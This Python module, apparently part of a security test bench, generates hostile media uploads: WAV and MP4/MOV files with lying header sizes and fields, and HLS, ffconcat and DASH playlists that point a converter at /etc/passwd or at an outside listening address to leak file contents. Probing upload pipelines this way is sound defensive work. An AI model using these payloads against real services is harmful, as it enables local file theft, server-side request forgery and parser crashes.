"""Sounds and videos whose heads lie, and lists that name other files."""

from __future__ import annotations

import struct
from collections.abc import Iterator

from bench.studio.hostile.attack import Attack
from bench.studio.hostile.samples import samples

FIELDS = (b"tkhd", b"mvhd", b"mdhd", b"stts", b"stsz", b"stsc", b"stco", b"elst", b"hdlr", b"stsd", b"mdat", b"moov")
LIES = (b"\xff\xff\xff\xff", b"\x7f\xff\xff\xff", b"\x00\x00\x00\x00", b"\x00\x00\x00\x01")


def media(elsewhere: str) -> Iterator[Attack]:
    """Make sounds and videos; `elsewhere` is an address where somebody notices whoever comes."""
    yield from _waves()
    yield from _boxes()
    for what, text in _lists(elsewhere).items():
        for ending in ("mp4", "wav"):
            yield Attack("lists", f"{what} as {ending}", text.encode(), f"list.{ending}")


def _waves() -> Iterator[Attack]:
    sizes = ((4 << 30) - 1, 0, 0x7FFFFFFF)
    formats = (
        ("plain", 1, 1, 8000, 16),
        ("of 65535 channels", 1, 65_535, 8000, 16),
        ("of no channels", 1, 0, 8000, 16),
        ("of rate 0", 1, 1, 0, 16),
        ("of rate 2^32", 1, 2, 2**32 - 1, 16),
        ("of rate 1", 1, 1, 1, 8),
        ("of 0 bits", 1, 1, 8000, 0),
        ("of 65535 bits", 1, 1, 8000, 65_535),
        ("of another codec", 0x55, 1, 8000, 16),
        ("of an unknown codec", 0xFFFE, 1, 8000, 16),
    )
    for what, codec, channels, rate, bits in formats:
        for size in sizes:
            told = struct.pack("<HHIIHH", codec, channels, rate, 2**31, 2, bits)
            content = b"RIFF" + struct.pack("<I", size) + b"WAVEfmt " + struct.pack("<I", len(told)) + told
            content += b"data" + struct.pack("<I", size) + bytes(range(256)) * 40
            yield Attack("sound that lies", f"WAV {what}, {size} bytes", content, "voice.wav")


def _boxes() -> Iterator[Attack]:
    """Change what stands behind the names of an MP4's boxes, and the sizes before them."""
    for ending in ("mp4", "mov"):
        content = samples()[ending]
        for name in FIELDS:
            at = content.find(name)
            if at < 0:
                continue
            for lie in LIES:
                sized = content[: at - 4] + lie + content[at:]
                yield Attack("video that lies", f"{ending} {name!r} of size {lie.hex()}", sized, f"film.{ending}")
            for place in (8, 16, 24):
                for lie in LIES[:2]:
                    told = content[: at + place] + lie + content[at + place + 4 :]
                    yield Attack("video that lies", f"{ending} {name!r} + {place}", told, f"film.{ending}")
    deep = b"\x00\x00\x00\x18ftypisom\x00\x00\x02\x00isomiso2"
    yield Attack("video that lies", "boxes in boxes", deep + b"\x00\x00\x00\x08moov" * 50_000, "film.mp4")
    yield Attack("video that lies", "a box of 2^63", deep + b"\x00\x00\x00\x01moov" + b"\x7f" + b"\xff" * 7, "film.mp4")


def _lists(elsewhere: str) -> dict[str, str]:
    segment = "#EXTINF:10,\n"
    return {
        "HLS of a file": f"#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\n{segment}file:///etc/passwd\n#EXT-X-ENDLIST\n",
        "HLS of an address": f"#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\n{segment}{elsewhere}/x.ts\n#EXT-X-ENDLIST\n",
        "HLS of both": f"#EXTM3U\n{segment}concat:{elsewhere}/x?|subfile,,start,0,end,64,,:///etc/passwd\n",
        "concat": "ffconcat version 1.0\nfile /etc/passwd\n",
        "DASH": f'<?xml version="1.0"?><MPD><Period><BaseURL>{elsewhere}/x</BaseURL></Period></MPD>',
        "SDP": "v=0\no=- 0 0 IN IP4 127.0.0.1\nm=video 5004 RTP/AVP 96\n",
        "an image list": "%05d.png\n",
    }
